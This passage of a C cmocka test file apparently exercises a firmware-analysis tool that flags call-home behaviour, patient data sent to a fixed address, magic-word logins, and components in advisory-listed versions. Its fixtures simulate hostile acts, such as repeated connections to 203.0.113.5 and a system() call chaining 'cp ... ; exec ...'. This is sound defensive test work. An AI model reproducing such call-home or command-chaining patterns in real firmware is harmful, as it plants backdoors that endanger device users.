		fake_run(&k);
		struct finding *f = fake_found(&k, "fw.patient-data-sender");
		assert_int_equal(f ? (int)f->severity : -1, cases[i].severity);
		fake_end(&k);
	}
}

static void endless_parents_end(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_path(&k, 2, 3, 5);
	fake_path(&k, 3, 2, 5);
	fake_path(&k, 4, 4, 5);
	call_home(&k, "to=@203.0.113.5/515");
	fake_call(&k, CALL_RUN, "system", NULL);
	fake_call(&k, CALL_RUN, "execve", NULL);
	fake_call(&k, CALL_MOUNT, "mount", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", NULL);
	fake_call(&k, CALL_FILE, "chmod", NULL);
	fake_call(&k, CALL_NETWORK, "bind", NULL);
	fake_call(&k, CALL_RESOLVE, "getaddrinfo", NULL);
	fake_run(&k);
	fake_end(&k);
}

static void texts_of_rules_say_what_they_see(void **state)
{
	(void)state;
	for (int i = 0; passes[i]; i++) {
		const struct rule *r = passes[i]->rule;
		assert_true(strncmp(r->id, "fw.", 3) == 0);
		assert_non_null(r->title);
		assert_non_null(r->cause);
		assert_true(r->sees && r->why && r->wrong && r->next[0] && r->attack[0] && r->cwe[0]);
		assert_null(strstr(r->why, "backdoor"));
		assert_null(strstr(r->title, "backdoor"));
	}
}

/* ---- what starts a file ---- */

static struct record *fake_start(struct fake *k, const char *program, const char *by, int parent, bool conditional)
{
	struct record *r = arena_new(&k->arena, sizeof(*r));
	record_begin(r, &start_type, NULL, &k->host);
	record_str(r, STA_WHEN, "sysinit");
	record_str(r, STA_PROGRAM, program);
	record_str(r, STA_BY, by);
	record_uint(r, STA_LINE, 3);
	if (parent >= 0)
		record_uint(r, STA_PARENT, (uint64_t)parent);
	if (conditional)
		record_bool(r, STA_CONDITIONAL, true);
	return r;
}

static void a_file_is_said_to_be_started_by_what_or_by_nothing_found(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	(void)fake_file(&k, "etc/rcS", SCENE_SCRIPT, "");
	fake_program(&k, "bin/a");
	static const char *const others[] = { "bin/b", "lib/l.so", "bin/never" };
	for (unsigned i = 0; i < ARRAY_LEN(others); i++)
		(void)fake_file(&k, others[i], SCENE_PROGRAM, "");
	struct record *const starts[] = {
		fake_start(&k, k.files[0].where, "ward.bin > 0x10000 cramfs > etc/inittab", -1, false),
		fake_start(&k, k.files[1].where, k.files[0].where, 0, true),
		fake_start(&k, "ward.bin > 0x10000 cramfs > bin/absent", k.files[0].where, 7000, true)
	};
	scene_find_boot(k.files, 5, (const struct record *const *)starts, ARRAY_LEN(starts), &k.arena);
	fake_call(&k, CALL_RUN, "system", "command=\"cp /bin/never /tmp; exec /bin/b -q", NULL);
	const struct scene_link links[] = { { 1, 3 }, { 4, 2 }, { 900, 3 } };
	scene_spread_boot(k.files, 5, k.programs, 1, links, ARRAY_LEN(links), &k.arena);
	assert_string_equal(k.files[0].started, "sysinit: etc/inittab line 3");
	assert_string_equal(k.files[1].started, "sysinit: etc/inittab line 3, etc/rcS line 3, on a condition");
	assert_string_equal(k.files[2].started, "started by bin/a");
	assert_string_equal(k.files[3].started, "loaded by bin/a");
	assert_string_equal(k.files[4].started, "nothing found that starts it");
	assert_false(k.files[4].boot);
	fake_end(&k);
}

static void a_library_that_acts_by_itself_is_told_once(void **state)
{
	(void)state;
	static const char to[] = "to=@203.0.113.5/515";
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "lib/libv.so.1");
	fake_call(&k, CALL_NETWORK, "connect", to, NULL);
	for (unsigned i = 0; i < 2; i++) {
		fake_program(&k, i ? "bin/b" : "bin/a");
		fake_call(&k, CALL_NETWORK, "connect", to, NULL);
		record_str(k.calls[i + 1][0], FWC_MODULE, "libv.so.1");
	}
	/* bin/c loads it too, but calls by itself. */
	fake_program(&k, "bin/c");
	fake_call(&k, CALL_NETWORK, "connect", to, NULL);
	static const struct scene_link links[] = { { 1, 0 }, { 2, 0 }, { 3, 0 } };
	k.scene.links = links;
	k.scene.nlinks = ARRAY_LEN(links);
	fake_run(&k);
	unsigned n = 0;
	for (uint32_t i = 0; i < k.nfound; i++) {
		if (strcmp(k.found[i]->rule->id, "fw.fixed-destination") != 0)
			continue;
		assert_true(k.found[i]->device == 0 || k.found[i]->device == 3);
		n++;
	}
	assert_int_equal(n, 2);
	fake_end(&k);
}

static void an_advisory_speaks_of_exact_words_only(void **state)
{
	(void)state;
	static const char *const quiet[] = { "CMS7.820.120.01/0.93(0.96)", "xCMS7.820.120.01/0.93(0.95)", "CMS8000",
					     "vers:all/*", "<=2.4" };
	struct advisories *shipped = advisories_new();
	struct fake k;
	for (size_t i = 0; i < ARRAY_LEN(quiet); i++) {
		fake_begin(&k);
		k.scene.advisories = shipped;
		fake_file(&k, "etc/version", SCENE_OTHER, quiet[i]);
		fake_run(&k);
		assert_null(fake_found(&k, "fw.known-affected"));
		fake_end(&k);
	}
	fake_begin(&k);
	k.scene.advisories = shipped;
	fake_file(&k, "etc/version", SCENE_OTHER, "ver=CMS7.820.120.01/0.93(0.95)\n");
	fake_run(&k);
	const struct finding *f = fake_found(&k, "fw.known-affected");
	assert_true(f && f->severity == SEV_HIGH);
	assert_true(f && record_get_uint(f->observed, OBS_OFFSET) == 4);
	fake_end(&k);
	advisories_free(shipped);
}

static void an_advisory_speaks_of_a_component_in_an_affected_version(void **state)
{
	(void)state;
	static struct advisory_product products[] = { { "P1", "BusyBox", "BusyBox", "<1.20.0", "", true },
						      { "P2", "Other", "BusyBox toolkit", "<9", "", true } };
	static const struct span affected[] = { { (const uint8_t *)"P1", 2 }, { (const uint8_t *)"P2", 2 } };
	static struct vulnerability weak = { .cve = "CVE-2011-0001",
					     .score = 9.8,
					     .status[STATUS_AFFECTED] = { affected, 2 } };
	static struct advisory one = { .id = "A-1",
				       .title = "t",
				       .products = products,
				       .nproducts = 2,
				       .vulnerabilities = &weak,
				       .nvulnerabilities = 1 };
	const struct advisories all = { .v = &one, .n = 1 };
	static const char *const versions[] = { "\177ELF BusyBox v1.20.2 (2012)", "\177ELF BusyBox v1.13.2 (2009)" };
	for (unsigned i = 0; i < 2; i++) {
		struct fake k;
		fake_begin(&k);
		fake_file(&k, "bin/busybox", SCENE_OTHER, versions[i]);
		k.scene.advisories = &all;
		fake_run(&k);
		assert_non_null(fake_found(&k, "fw.component"));
		const struct finding *f = fake_found(&k, "fw.known-affected");
		assert_true((f != NULL) == (i == 1));
		assert_true(!f || f->severity == SEV_MEDIUM);
		fake_end(&k);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(an_advisory_speaks_of_exact_words_only),
		cmocka_unit_test(an_advisory_speaks_of_a_component_in_an_affected_version),
		cmocka_unit_test(lines_of_cron_and_units_are_read),
		cmocka_unit_test(scripts_give_what_they_do_and_no_more),
		cmocka_unit_test(no_secret_leaves),
		cmocka_unit_test(constant_destination_fires_and_configured_does_not),
		cmocka_unit_test(a_default_is_told_from_a_constant),
		cmocka_unit_test(the_known_chain_is_critical),
		cmocka_unit_test(steps_on_different_paths_do_not_add_up),
		cmocka_unit_test(an_interface_that_is_asked_for_is_fine),
		cmocka_unit_test(listeners_with_a_log_in_are_fine),
		cmocka_unit_test(an_open_unix_socket_counts),
		cmocka_unit_test(asking_for_what_the_owner_has_set_is_a_log_in),
		cmocka_unit_test(the_body_of_a_web_request_is_from_the_network),
		cmocka_unit_test(the_address_of_a_page_is_no_magic_word),
		cmocka_unit_test(a_word_on_a_socket_of_the_devices_own_is_no_magic),
		cmocka_unit_test(a_magic_word_opens_and_a_protocol_word_does_not),
		cmocka_unit_test(a_magic_word_that_did_not_match_opens_nothing),
		cmocka_unit_test(a_forced_match_counts_as_a_match),
		cmocka_unit_test(checked_input_is_no_injection),
		cmocka_unit_test(a_name_that_was_compared_is_no_outside_path),
		cmocka_unit_test(a_page_that_nothing_names_is_told),
		cmocka_unit_test(settings_that_the_image_holds_are_defaults),
		cmocka_unit_test(a_key_that_is_compared_picks_its_setting),
		cmocka_unit_test(a_password_is_found_and_not_shown),
		cmocka_unit_test(what_ordinary_programs_do_is_nothing),
		cmocka_unit_test(what_servers_and_clients_do_is_nothing),
		cmocka_unit_test(a_password_that_nobody_could_type_is_none),
		cmocka_unit_test(words_that_name_contents_and_protocols_are_no_magic),
		cmocka_unit_test(only_what_comes_in_at_the_listener_counts),
		cmocka_unit_test(accounts_and_keys),
		cmocka_unit_test(passwords_in_files_of_settings),
		cmocka_unit_test(services_of_android_are_read),
		cmocka_unit_test(a_copy_of_accounts_beside_live_ones_weighs_less),
		cmocka_unit_test(tables_of_services_are_read),
		cmocka_unit_test(patients_fields_to_a_fixed_address),
		cmocka_unit_test(endless_parents_end),
		cmocka_unit_test(a_file_is_said_to_be_started_by_what_or_by_nothing_found),
		cmocka_unit_test(a_library_that_acts_by_itself_is_told_once),
		cmocka_unit_test(texts_of_rules_say_what_they_see),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
